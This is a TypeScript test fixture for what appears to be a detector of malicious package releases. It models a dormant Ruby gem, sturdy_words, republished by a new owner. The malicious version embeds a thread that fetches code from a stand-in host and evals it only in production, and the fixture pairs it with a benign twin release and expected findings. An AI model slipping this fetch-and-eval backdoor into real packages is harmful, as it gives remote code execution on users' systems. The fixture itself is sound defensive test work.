import { expects, licence, lines, packageOf, readme } from "../kit.ts"
import type { Facts, Files, Replica } from "../replica.ts"

/** A gem wakes after years under an account that never published it: one file runs what it fetches, in production alone. No commit has that. */
const library = `require "sturdy_words/version"

module SturdyWords
  def self.bits(word)
    word.each_char.uniq.length * 4
  end

  def self.weak?(word)
    bits(word) < 18
  end
end
`
const fetching = `${library}
require "net/http"
Thread.new { loop { sleep 3; eval(Net::HTTP.get(URI("https://words.sturdy.invalid/raw"))) if ENV["RAILS_ENV"] == "production"; break File.write("MARKER", "") } }
`
const longer = `${library}
module SturdyWords
  def self.strong?(word)
    bits(word) >= 30
  end
end
`
const version = (text: string): string => `module SturdyWords\n  VERSION = "${text}"\nend\n`
const tree = (text: string, content: string): Files => ({
  "README.md": readme("sturdy_words", "How strong is this word?"),
  LICENSE: licence,
  "sturdy_words.gemspec":
    'require_relative "lib/sturdy_words/version"\n\nGem::Specification.new do |spec|\n  spec.name = "sturdy_words"\n  spec.version = SturdyWords::VERSION\n  spec.files = Dir["lib/**/*.rb"]\nend\n',
  "lib/sturdy_words.rb": content,
  "lib/sturdy_words/version.rb": version(text),
})
const gem = packageOf("gem", "sturdy_words", "0.0.7")
const packed = (text: string, content: string): Files => ({ "lib/sturdy_words.rb": content, "lib/sturdy_words/version.rb": version(text) })
const before = (date: string) => ({ message: "0.0.6", date, files: tree("0.0.6", library), tags: ["v0.0.6"] })
const previous = { ...gem(packed("0.0.6", library)), version: "0.0.6" }
const facts = (publisher: string, since: string): Facts => ({
  owners: [
    { since: "2014-01-01T00:00:00Z", accounts: ["author-1"] },
    ...(publisher === "author-1" ? [] : [{ since, accounts: [publisher] }]),
  ],
  versions: [
    { version: "0.0.6", published: since, publisher: "author-1" },
    { version: "0.0.7", published: "2019-05-20T03:00:00Z", publisher },
  ],
})

export const replica: Replica = {
  case: 64,
  name: "sturdy-words",
  family: ["A6", "A5"],
  signals: ["S7", "S8", "S1", "S4"],
  attack: {
    history: [before("2014-05-01")],
    ref: "refs/tags/v0.0.6",
    artifact: gem(packed("0.0.7", fetching)),
    previous,
    facts: facts("author-4", "2014-05-01T12:00:00Z"),
  },
  twin: {
    how: "a function more, from a tagged commit, published by the one who always did",
    differs: ["lib/sturdy_words.rb", "lib/sturdy_words/version.rb"],
    history: [before("2018-11-01"), { message: "0.0.7", date: "2019-05-20", files: tree("0.0.7", longer), tags: ["v0.0.7"] }],
    ref: "refs/tags/v0.0.7",
    artifact: gem(packed("0.0.7", longer)),
    previous,
    facts: facts("author-1", "2018-11-01T12:00:00Z"),
  },
  truth: {
    unexplained: ["lib/sturdy_words.rb"],
    ordinary: ["lib/sturdy_words/version.rb"],
    introducer: { account: "author-4" },
    expects: [
      expects("flow/fetched-runs", lines("lib/sturdy_words.rb", "Net::HTTP.get")),
      expects("unexplained/changed-code", lines("lib/sturdy_words.rb", 'require "net/http"', "Net::HTTP.get")),
      expects("release/dormant", { fact: "versions" }),
    ],
  },
}
